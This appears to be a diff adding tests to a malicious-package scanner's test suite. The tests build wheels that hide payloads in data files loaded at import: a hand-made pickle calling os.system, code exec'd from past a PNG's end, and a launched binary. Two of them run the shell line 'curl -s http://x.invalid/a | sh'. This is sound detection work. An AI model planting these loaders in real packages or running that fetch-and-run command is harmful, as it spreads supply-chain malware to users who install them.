@@ -6,8 +6,11 @@ archives are built at test time and only read by the engine.
 
 from __future__ import annotations
 
+import struct
+import zlib
+
 import pytest
-from test_engine import make_sdist
+from test_engine import make_sdist, make_wheel
 
 from pipvet.analysis.engine import analyze_bytes
 from pipvet.models import Stage, Verdict
@@ -382,3 +385,55 @@ def test_protocol_methods_of_a_class_no_import_makes_stay_run_time() -> None:
     result = analyze_bytes(data, "demo-1.0.tar.gz").result
     assert result.verdict is not Verdict.MALICIOUS
     assert {f.stage for f in result.findings if f.line in {4, 7}} == {Stage.RUNTIME}
+
+
+def _png(tail: bytes) -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + body + tail
+
+
+def _system_pickle() -> bytes:
+    # protocol 2 by hand: GLOBAL posix system, the command, TUPLE1, REDUCE, STOP
+    command = b"curl -s http://x.invalid/a | sh"
+    return b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R."
+
+
+_ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 200
+_HERE = "os.path.join(os.path.dirname(__file__), '{}')"
+
+#: Payloads kept in a data file that the package's own code loads as it is imported.
+LOADED_AT_IMPORT: dict[str, dict[str, bytes | str]] = {
+    "pickle unpickled at import": {
+        "demo/__init__.py": f"import os, pickle\nwith open({_HERE.format('model.pkl')}, 'rb') as f:\n"
+        "    pickle.load(f)\n",
+        "demo/model.pkl": _system_pickle(),
+    },
+    "code after the end of a PNG": {
+        "demo/__init__.py": f"import os\nd = open({_HERE.format('logo.png')}, 'rb').read()\n"
+        "exec(d[d.rfind(b'IEND') + 8:])\n",
+        "demo/logo.png": _png(b"import os; os.system('curl -s http://x.invalid/a | sh')"),
+    },
+    "program shipped in a pure-Python wheel and started": {
+        "demo/__init__.py": f"import os, subprocess\nsubprocess.Popen([{_HERE.format('helper')}])\n",
+        "demo/helper": _ELF,
+    },
+}
+
+
+@pytest.mark.parametrize("shape", sorted(LOADED_AT_IMPORT))
+def test_a_payload_in_a_data_file_loaded_at_import_is_caught(shape: str) -> None:
+    result = analyze_bytes(make_wheel(LOADED_AT_IMPORT[shape]), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.stage) for f in result.findings]
+    assert any("names this file next to a call" in f.message for f in result.findings)
+
+
+@pytest.mark.parametrize("shape", sorted(LOADED_AT_IMPORT))
+def test_the_same_data_file_left_unread_stays_below_malicious(shape: str) -> None:
+    shipped = {**LOADED_AT_IMPORT[shape], "demo/__init__.py": "VERSION = '1.0'\n"}
+    result = analyze_bytes(make_wheel(shipped), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is not Verdict.MALICIOUS
+    assert {f.stage for f in result.findings} == {Stage.DATA}
